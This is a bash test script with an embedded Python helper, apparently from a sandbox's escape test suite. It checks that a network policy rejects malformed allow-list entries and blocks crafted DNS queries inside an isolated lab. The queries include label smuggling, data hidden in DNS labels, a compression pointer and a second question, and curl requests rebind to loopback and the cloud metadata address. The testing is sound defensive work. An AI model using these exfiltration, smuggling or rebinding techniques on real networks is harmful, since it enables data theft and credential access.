#!/bin/bash
# Class 16, domain tricks: an empty allow list grants nothing; an
# allowed loopback port works while the same host on another port does
# not; entries with a NUL, a control byte, an empty string, port 0 or a
# port past 65535 either make the policy invalid or grant nothing more
# than they say.  As root, in a network lab of the test's own
# (pt_dns_lab): queries through proctor's resolver with a NUL, a dot or
# an escape byte inside a label, a compression pointer, two questions
# (the second a denied name), a denied name in mixed case or with a
# final dot, data in the labels of a denied domain, a query sent to the
# name server over UDP and over TCP to another address or port, and
# allowed names that answer with the host's loopback or the metadata
# address (rebinding): none reaches the name server or the host.
. "$(dirname "$0")/../lib.sh"
pt_init "$@"
. "$PT_TESTS/escape/helpers.bash"
esc_init 16

esc_serve a=tcp4 b=tcp4
A=$(esc_port a)
B=$(esc_port b)

# policy FILE JSON-NETWORK-VALUE
policy() {
	printf '{"network": %s}\n' "$2" >"$T/$1.json"
}

# try NAME POLICY-FILE-OR-'' CONNECT-ARGS...: connects under the policy;
# a policy proctor rejects (exit 125) grants nothing, which is fine.
try() {
	local name=$1 pol=$2
	shift 2
	if [ -n "$pol" ]; then
		esc_run --policy "$T/$pol.json" -- "$T/attacks" connect "$@"
	else
		esc_run -- "$T/attacks" connect "$@"
	fi
	if [ "$PT_RC" = 125 ] && ! grep -q '^TOTAL' "$PT_OUT"; then
		pt_ok "class 16: $name: the policy is rejected"
		pt_diag "$(head -n 1 "$PT_ERR" | cut -c1-200)"
		esc_attempt 0
		return
	fi
	esc_results "$name"
}

policy empty '{"allow": []}'
try "empty allow list" empty "$A" 127.0.0.1 "127.0.0.1@$B"
policy empty-default '{"default": "deny", "allow": []}'
try "empty allow list, default deny" empty-default "$A" 127.0.0.1

policy one "{\"allow\": [\"127.0.0.1:$A\"]}"
try "one allowed port" one "$A" "127.0.0.1+ok" "127.0.0.1@$B" \
	"::ffff:127.0.0.1@$B" "127.0.0.2@$A"

policy nul "{\"allow\": [\"127.0.0.1\\u0000:$A\"]}"
try "an entry with a NUL before the port" nul "$A" "127.0.0.1@$B"
policy ctl "{\"allow\": [\"127.0.0.1:$A\\u001b[2J\"]}"
try "an entry with an escape byte" ctl "$A" "127.0.0.1@$B"
policy emptystr '{"allow": [""]}'
try "an empty string entry" emptystr "$A" 127.0.0.1 "127.0.0.1@$B"
policy port0 '{"allow": ["127.0.0.1:0"]}'
try "port 0" port0 "$A" 127.0.0.1 "127.0.0.1@$B"
policy wrap "{\"allow\": [\"127.0.0.1:$((A + 65536))\"]}"
try "a port past 65535 (A + 65536)" wrap "$A" 127.0.0.1

esc_run --allow-net '' -- "$T/attacks" connect "$A" 127.0.0.1
if [ "$PT_RC" = 125 ]; then
	pt_ok "class 16: --allow-net '': rejected"
	esc_attempt 0
else
	esc_results "--allow-net ''"
fi

sleep 0.2
c=$(esc_count b)
pt_is "class 16: the other port got nothing" "$c" "0 0"
esc_serve_stop

# --- through the resolver, in the lab ---------------------------------------

lab_attacks() {
	cat >"$T/dnsq.py" <<'PY'
import socket, struct, sys

def name(labels):
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"

def query(qname, qd=1, extra=b""):
    return struct.pack("!HHHHHH", 9, 0x0100, qd, 0, 0, 0) + qname + \
        b"\0\1\0\1" + extra

attacks = {
    "nul-in-label": query(name([b"sec\0ret", b"denied", b"test"])),
    "dot-in-label": query(name([b"x.denied", b"allowed", b"test"])),
    "escape-in-label": query(name([b"a\x1b[2J", b"denied", b"test"])),
    "pointer": query(b"\x07allowed\xc0\x0c"),
    "two-questions": query(name([b"allowed", b"test"]), 2,
                           name([b"two-q", b"denied", b"test"]) +
                           b"\0\1\0\1"),
    "mixed-case": query(name([b"MiXeD", b"DeNiEd", b"TeSt"])),
    "final-dot-denied": query(name([b"dot", b"denied", b"test", b""])[:-1]),
    "exfil-labels": query(name([b"c2VjcmV0", b"exfil", b"denied", b"test"])),
}
for what, q in attacks.items():
    try:
        s = socket.create_connection(("10.77.0.1", 53), timeout=3)
        s.sendall(struct.pack("!H", len(q)) + q)
        head = s.recv(2)
        if len(head) < 2:
            print(what, "closed")
            continue
        n, = struct.unpack("!H", head)
        a = b""
        while len(a) < n:
            a += s.recv(n - len(a))
        print(what, "rcode", a[3] & 15, "answers", a[6] << 8 | a[7])
    except OSError as e:
        print(what, "failed", e)
for what, addr in (("udp", ("10.77.0.1", 53)),):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(query(name([b"udp", b"denied", b"test"])), addr)
        s.recv(512)
        print(what, "answered")
    except OSError as e:
        print(what, "failed")
for what, addr in (("tcp-other-ip", ("10.77.0.3", 53)),
                   ("tcp-other-port", ("10.77.0.1", 5353))):
    try:
        socket.create_connection(addr, timeout=2).close()
        print(what, "connected")
    except OSError as e:
        print(what, "failed")
PY
	pt_lab_run --allow-net allowed.test -- "$PT_PY" "$T/dnsq.py"
	pt_diag "$(tr '\n' ';' <"$PT_OUT")"
	local what line
	for what in nul-in-label dot-in-label escape-in-label pointer \
		two-questions mixed-case final-dot-denied exfil-labels; do
		line=$(grep "^$what " "$PT_OUT")
		case $line in
		*"answers 0"* | *closed* | *failed*)
			pt_ok "class 16: $what: no answer"
			esc_attempt 0 ;;
		*)
			pt_fail "class 16: $what: no answer" "$line"
			esc_attempt 1 ;;
		esac
	done
	for what in udp tcp-other-ip tcp-other-port; do
		if grep -q "^$what failed" "$PT_OUT"; then
			pt_ok "class 16: $what: refused"
			esc_attempt 0
		else
			pt_fail "class 16: $what: refused" \
				"$(grep "^$what" "$PT_OUT")"
			esc_attempt 1
		fi
	done
	# only the allowed name of the two-question query may have been asked
	if grep -v " allowed.test " "$LAB/queries" | grep -q .; then
		pt_fail "class 16: nothing but allowed.test reached the server" \
			"$(head -n 5 "$LAB/queries")"
		esc_attempt 1
	else
		pt_ok "class 16: nothing but allowed.test reached the server"
		esc_attempt 0
	fi

	# rebinding: allowed names whose answers are this host or metadata
	ip netns exec "$LAB_C" "$ESC_T/attacks" serve "$T/lo-srv" \
		lo=tcpaddr:127.0.0.1:8080 </dev/null >"$T/lo-srv.log" 2>&1 &
	pt_at_exit "kill $!"
	mkdir -p "$T/lo-srv"
	pt_lab_run --allow-net rebind.test --allow-net meta.test -- sh -c '
curl -s -m 3 http://rebind.test:8080/ && echo REACHED-LOOPBACK
curl -s -m 3 http://meta.test/ && echo REACHED-META
true'
	if grep -q REACHED "$PT_OUT"; then
		pt_fail "class 16: rebinding to loopback or metadata" \
			"$(cat "$PT_OUT")"
		esc_attempt 1
	else
		pt_ok "class 16: rebinding to loopback or metadata refused"
		esc_attempt 0
	fi
}

if pt_dns_lab "allowed.test A 10.77.0.2 300
*.denied.test A 10.77.0.3 300
rebind.test A 127.0.0.1 300
meta.test A 169.254.169.254 300"; then
	lab_attacks
fi

esc_summary
pt_done
